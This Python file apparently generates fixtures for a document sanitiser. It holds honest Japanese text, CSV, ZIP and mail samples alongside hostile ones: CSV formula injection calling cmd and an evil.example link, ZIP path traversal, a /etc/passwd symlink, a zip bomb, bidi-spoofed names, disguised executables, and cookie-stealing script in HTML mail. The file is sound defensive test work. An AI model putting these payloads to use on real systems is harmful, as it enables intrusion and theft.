# SPDX-License-Identifier: GPL-3.0-or-later
"""Samples of text, csv, zip and mail: honest ones in the encodings of Japanese offices, hostile ones
with one construct each. The town (みほん市) and everybody in it are made up."""

import base64
import io
import struct
import zipfile
import zlib

import zip_crypt
from sample import Sample

NOTICE = "みほん市からのお知らせ\r\n担当：髙橋・山﨑　①受付〜②交付　（株）㈱みほん\r\n令和四年四月一日\r\n"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00 This program cannot be run; it is only a sample."
PASSWORD = "みほん2022"


def cp932(text):
    return text.replace("〜", "～").encode("cp932")


def texts():
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "hidden order")
    return [
        Sample("お知らせ-utf8.txt", NOTICE.encode(), stays=("髙橋・山﨑", "①受付〜②交付")),
        Sample("お知らせ-utf8-bom.txt", b"\xef\xbb\xbf" + NOTICE.encode(), stays=("みほん市",)),
        Sample("お知らせ-utf16.txt", b"\xff\xfe" + NOTICE.encode("utf-16-le"), stays=("みほん市",)),
        Sample("お知らせ-cp932.txt", cp932(NOTICE), stays=("髙橋・山﨑", "㈱みほん")),
        Sample("お知らせ-eucjp.txt", "みほん市からのお知らせ\n".encode("euc_jp"), stays=("みほん市",)),
        Sample("お知らせ-jis.txt", "みほん市からのお知らせ\n".encode("iso2022_jp"), stays=("みほん市",)),
        Sample("異体字.txt", "葛\U000E0100城市 \U0001F468\u200D\U0001F469\u200D\U0001F467\n".encode(),
               stays=("葛\U000E0100城市",)),
        Sample("bidi.txt", "請求書\u202Exslx.exe\u202C の件\u2067隠\u2069\n".encode(), "bidi_control",
               gone=("\u202E".encode(), "\u2067".encode()), stays=("請求書", "の件")),
        Sample("tags.txt", f"表\u202Dの\u200B文{hidden}\n".encode(), "hidden_text",
               gone=(hidden.encode(), "\u200B".encode()), stays=("表の文",)),
        Sample("control.txt", ("通知\x07\x1b[2J本文終わり\n" + NOTICE * 20).encode(), "control_character",
               gone=(b"\x1b[", b"\x07"), stays=("通知", "終わり")),
    ]


def tables():
    honest = "番号,氏名,残高,電話\r\n1,\"見本, 太郎\",-12.5,+81-3-0000-0000\r\n2,見本 花子,-,\"二行\r\nの欄\"\r\n"
    dde = "番号,備考\r\n1,=cmd|' /C calc'!A0\r\n2,\"=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"\r\n3,見本\r\n"
    return [
        Sample("名簿-utf8.csv", honest.encode(), stays=("見本, 太郎", "-12.5", "+81-3-0000-0000")),
        Sample("名簿-cp932.csv", cp932(honest + "3,表示ソース十能,0,0\r\n"),
               stays=("表示ソース十能", "-12.5")),
        Sample("名簿-eucjp.csv", honest.encode("euc_jp"), stays=("見本 花子",)),
        Sample("dde.csv", dde.encode(), "formula_injection", gone=(b"\n1,=cmd",), stays=("見本", "calc")),
        Sample("dde-cp932.csv", cp932("番号,備考\r\n1,表\r\n2,=cmd|' /C calc'!A0\r\n3,ソ,＝1+1\r\n"),
               "formula_injection", gone=(b"2,=cmd", "ソ,＝1".encode("cp932")), stays=("表", "ソ")),
        Sample("plus-minus-at.csv", "+cmd|' /C calc'!A0,-2+3+cmd|' /C calc'!A0,@SUM(1+1)\r\n見本,b,c\r\n".encode(),
               "formula_injection", gone=(b",@SUM", b",-2+3"), stays=("見本",)),
        Sample("full-width.csv", "＝ＨＹＰＥＲＬＩＮＫ（Ａ１）,＠ＳＵＭ（１）,見本\r\n".encode(),
               "formula_injection", gone=(",＠ＳＵＭ".encode(),), stays=("見本",)),
        Sample("other-separator.csv", "見本;=cmd|' /C calc'!A0,b,c\r\n\"二行\r\n=cmd|x\",e,f\r\n".encode(),
               "formula_injection", gone=(b";=cmd", b"\n=cmd"), stays=("見本", "二行")),
        Sample("tab-start.tsv", "見本\tb\tc\r\n\"\t=1+1\"\t@A1\tf\r\n".encode(), "formula_injection",
               gone=(b"\t@A1", b"\"\t=1+1"), stays=("見本",)),
        Sample("text-treatment.csv", cp932("番号,備考\r\n1,=1+1\r\n2,見本\r\n"), "formula_injection",
               gone=(b"1,=1",), stays=("見本",), treatment="text"),
    ]


class Zip:
    """A ZIP file written field by field, so that any of them can be wrong."""

    def __init__(self):
        self.out, self.central, self.count = bytearray(), bytearray(), 0

    def add(self, name, data, *, local_name=None, flags=0, attributes=0, system=0, method=0, packed=None,
            extra=b"", crc=None, offset=None, declared=None):
        name = name.encode() if isinstance(name, str) else name
        if any(byte >= 0x80 for byte in name) and not flags & 0x800:
            flags |= 0 if system == 99 else 0x800
        packed = data if packed is None else packed
        local_name = name if local_name is None else local_name
        crc = zlib.crc32(data) if crc is None else crc
        sizes = (crc, len(packed), len(data) if declared is None else declared)
        common = struct.pack("<HHHHIII", flags, method, 0x6000, 0x5481, *sizes)
        here = len(self.out) if offset is None else offset
        if offset is None:
            self.out += b"PK\x03\x04" + struct.pack("<H", 20) + common
            self.out += struct.pack("<HH", len(local_name), len(extra)) + local_name + extra + packed
        self.central += b"PK\x01\x02" + struct.pack("<HH", (system if system != 99 else 0) << 8 | 20, 20) + common
        self.central += struct.pack("<HHHHHII", len(name), len(extra), 0, 0, 0, attributes, here) + name + extra
        self.count += 1
        return self

    def deflate(self, name, data, **more):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return self.add(name, data, method=8, packed=packer.compress(data) + packer.flush(), **more)

    def finish(self, tail=b""):
        start = len(self.out)
        end = struct.pack("<HHHHIIH", 0, 0, self.count, self.count, len(self.central), start, 0)
        return bytes(self.out + self.central) + b"PK\x05\x06" + end + tail


def nest(data, levels):
    for _ in range(levels):
        data = Zip().add("in.zip", data).finish()
    return data


def encrypted(password, *, aes):
    text = NOTICE.encode()
    if aes:
        extra = struct.pack("<HHHBBBH", 0x9901, 7, 2, ord("A"), ord("E"), 3, 0)
        packed = zip_crypt.encrypt_aes(text, password)
        return Zip().add("お知らせ.txt", text, flags=1, method=99, packed=packed, extra=extra, crc=0).finish()
    packed = zip_crypt.encrypt_traditional(text, zlib.crc32(text), password)
    return Zip().add("お知らせ.txt", text, flags=1, packed=packed).finish()


def packed_by(method):
    """An archive as Python's own zipfile packs it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(zipfile.ZipInfo("お知らせ.txt", (2022, 4, 1, 9, 0, 0)), NOTICE * 9, method)
    return out.getvalue()


def archives():
    text = "みほん市の資料\n".encode()
    raw = Zip()
    for name in ("表示.txt", "ソース/十.txt", "資料①.txt"):
        raw.add(cp932(name), text, system=99)
    two = Zip().add("甲.txt", text)
    overlap = Zip().add("甲.txt", text + text)
    overlap.add("甲.txt", text + text, offset=0).add("甲.txt", text + text, offset=0)
    return [
        Sample("資料-utf8.zip", two.add("資料/乙.txt", text).add("資料/", b"").finish(),
               stays=("甲.txt", "資料/乙.txt", "みほん市の資料")),
        Sample("資料-cp932.zip", raw.finish(), stays=("表示.txt", "ソース/十.txt", "資料①.txt")),
        Sample("bzip2.zip", packed_by(zipfile.ZIP_BZIP2), stays=("お知らせ.txt", "髙橋・山﨑")),
        Sample("lzma.zip", packed_by(zipfile.ZIP_LZMA), stays=("お知らせ.txt", "髙橋・山﨑")),
        Sample("traversal.zip", Zip().add("../../逃げる.txt", text).add("/絶対.txt", text)
               .add("C:\\窓.txt", text).finish(), "zip_traversal", gone=(b"../", b"C:\\"),
               stays=("逃げる.txt", "絶対.txt", "窓.txt")),
        Sample("link.zip", Zip().add("甲.txt", text).add("link.txt", b"/etc/passwd", system=3,
                                                        attributes=0o120777 << 16).finish(),
               "zip_link", gone=(b"/etc/passwd",), stays=("甲.txt",)),
        Sample("doubled.zip", Zip().add("甲.txt", text).add("甲.txt", "二つ目\n".encode()).finish(),
               "zip_doubled_name", stays=("甲.txt", "甲 (2).txt", "二つ目")),
        Sample("device.zip", Zip().add("NUL.txt", text).add("甲\u202Etxt.txt", text).finish(), "bidi_name",
               gone=("\u202E".encode(),), stays=("_NUL.txt",)),
        Sample("program.zip", Zip().add("甲.txt", text).add("実行.exe", PROGRAM).finish(), "executable",
               gone=(b"MZ\x90",), stays=("甲.txt",)),
        Sample("disguised.zip", Zip().add("甲.txt", text).add("写真.jpg", PROGRAM).finish(), "executable",
               gone=(b"MZ\x90",), stays=("甲.txt",)),
        Sample("only-program.zip", Zip().add("実行.exe", PROGRAM).finish(), "executable",
               refused="zip_nothing_left"),
        Sample("tail.zip", Zip().add("甲.txt", text).finish(b"hidden tail" * 9), "zip_tail",
               stays=("甲.txt",)),
        Sample("mismatch.zip", Zip().add("甲.txt", text, local_name="乙.exe".encode()).finish(),
               "zip_header_mismatch", refused="zip_damaged"),
        Sample("overlap.zip", overlap.finish(), "zip_overlap", refused="zip_overlap"),
        Sample("bomb.zip", Zip().deflate("甲.txt", b" " * (64 << 20)).finish(b"tail"), "zip_bomb",
               refused="limit_ratio"),
        Sample("nest.zip", nest(Zip().add("実行.exe", PROGRAM).finish(), 8), "executable",
               refused="zip_nothing_left"),
        Sample("lying-size.zip", Zip().add("甲.txt", text).deflate("乙.txt", b"x" * 999, declared=9).finish(),
               "zip_header_mismatch", gone=(b"xxxx",), stays=("甲.txt",)),
        Sample("inner-formula.zip", Zip().add("表.csv", cp932("見本,=cmd|x\r\n")).finish(), "formula_injection",
               gone=(b",=cmd",), stays=("見本",)),
        Sample("暗号-従来.zip", encrypted(PASSWORD.encode("cp932"), aes=False), stays=("髙橋・山﨑",),
               password=PASSWORD),
        Sample("暗号-aes.zip", encrypted(PASSWORD.encode(), aes=True), stays=("髙橋・山﨑",), password=PASSWORD),
        Sample("暗号-鍵なし.zip", encrypted(PASSWORD.encode(), aes=True), refused="password_needed"),
        Sample("暗号-鍵違い.zip", encrypted(b"other", aes=False), refused="password_wrong", password=PASSWORD),
    ]


FIELDS = ("From: =?ISO-2022-JP?B?GyRCJF8kWyRzO1QbKEI=?= <info@city.mihon.example.jp>\r\n"
          "To: tanto@city.mihon.example.jp\r\nDate: Fri, 1 Apr 2022 09:00:00 +0900\r\n"
          "Message-ID: <1@city.mihon.example.jp>\r\nReferences: <0@city.mihon.example.jp>\r\n"
          "Subject: =?UTF-8?B?44GK55+l44KJ44Gb?=\r\nMIME-Version: 1.0\r\n").encode()


def mixed(*parts):
    out = FIELDS + b'Content-Type: multipart/mixed; boundary="=_b"\r\n\r\n'
    for head, body in parts:
        out += b"--=_b\r\n" + head.encode() + b"\r\n\r\n" + body + b"\r\n"
    return out + b"--=_b--\r\n"


def attached(name, data, media_type="application/octet-stream"):
    head = (f"Content-Type: {media_type}\r\nContent-Transfer-Encoding: base64\r\n"
            f"Content-Disposition: attachment; filename=\"{name}\"")
    return head, base64.encodebytes(data).replace(b"\n", b"\r\n")


def encoded_word(text):
    return f"=?UTF-8?B?{base64.b64encode(text.encode()).decode()}?="


BODY = ("Content-Type: text/plain; charset=ISO-2022-JP", "見本の本文です。".encode("iso2022_jp"))


def page(inner):
    return FIELDS + b"Content-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + \
        f"<html><body><p>見本の本文</p>{inner}</body></html>\r\n".encode()


def mails():
    inner = FIELDS + b"Content-Type: text/plain; charset=UTF-8\r\n\r\n" + "内側の本文\r\n".encode()
    remote = "message/external-body; access-type=URL; URL=\"http://evil.example/x\""
    return [
        Sample("お知らせ-jis.eml", FIELDS + b"Content-Type: text/plain; charset=ISO-2022-JP\r\n\r\n"
               + "見本の本文です。①".encode("iso2022_jp_ext", "ignore") + b"\r\n", stays=("みほん市", "見本の本文")),
        Sample("お知らせ-cp932.eml", FIELDS + b"Content-Type: text/plain; charset=Shift_JIS\r\n"
               b"Content-Transfer-Encoding: 8bit\r\n\r\n" + cp932(NOTICE), stays=("髙橋・山﨑",)),
        Sample("添付.eml", mixed(BODY, attached(encoded_word("名簿.csv"), cp932("番号,氏名\r\n1,見本\r\n"), "text/csv")),
               stays=("見本の本文", "番号,氏名")),
        Sample("転送.eml", mixed(BODY, ("Content-Type: message/rfc822", inner)), stays=("内側の本文",)),
        Sample("script.eml", page("<script>stealCookies()</script><p onclick='run()'>続き</p>"), "html_script",
               gone=(b"stealCookies", b"onclick"), stays=("見本の本文", "続き")),
        Sample("remote-image.eml", page("<img src='http://tracker.example/pixel.gif?id=7' alt='図'>"), "html_remote",
               gone=(b"tracker.example",), stays=("見本の本文", "図")),
        Sample("form.eml", page("<form action='javascript:x()'><input name='password'></form>"), "html_form",
               gone=(b"javascript:", b"<form"), stays=("見本の本文",)),
        Sample("program.eml", mixed(BODY, attached("invoice.exe", PROGRAM)), "executable", gone=(b"MZ\x90",),
               stays=("見本の本文",)),
        Sample("disguised.eml", mixed(BODY, attached("photo.jpg", PROGRAM, "image/jpeg")), "executable",
               gone=(b"MZ\x90",), stays=("見本の本文",)),
        Sample("nested-program.eml", mixed(BODY, attached("a.zip", Zip().add("b.exe", PROGRAM).finish())),
               "executable", gone=(b"MZ\x90",), stays=("見本の本文",)),
        Sample("bidi-name.eml", mixed(BODY, attached(encoded_word("見積\u202Efdp.csv"), b"a,b\r\n")), "bidi_name",
               gone=("\u202E".encode(),), stays=("見本の本文", "a,b")),
        Sample("bidi-subject.eml", FIELDS.replace(b"=?UTF-8?B?44GK55+l44KJ44Gb?=",
                                                  encoded_word("お知らせ\u202Egnp").encode())
               + b"\r\nbody\r\n", "bidi_control", gone=("\u202E".encode(),), stays=("お知らせ", "body")),
        Sample("external-body.eml", mixed(BODY, (f"Content-Type: {remote}", b"Content-Type: text/plain\r\n\r\n")),
               "mail_carrier", gone=(b"evil.example",), stays=("見本の本文",)),
        Sample("doubled-header.eml", b"Subject: second@evil.example\r\n".join([b"Subject: first\r\n", FIELDS])
               .replace(b"\r\nSubject: =?UTF", b"\r\nX-Old: =?UTF") + b"\r\nbody\r\n", "mail_doubled_header",
               gone=(b"second@evil.example",), stays=("first", "body")),
        Sample("no-boundary.eml", FIELDS + b"Content-Type: multipart/mixed\r\n\r\n" + "区切りのない本文\r\n".encode(),
               "mail_malformed", stays=("区切りのない本文",)),
        Sample("formula.eml", mixed(BODY, attached("a.csv", "見本,=cmd|x\r\n".encode(), "text/csv")),
               "formula_injection", gone=(b",=cmd",), stays=("見本の本文",)),
        Sample("text-treatment.eml", page("<script>stealCookies()</script>"), "html_script",
               gone=(b"stealCookies",), stays=("お知らせ", "見本の本文"), treatment="text"),
    ]


def samples():
    return texts() + tables() + archives() + mails()
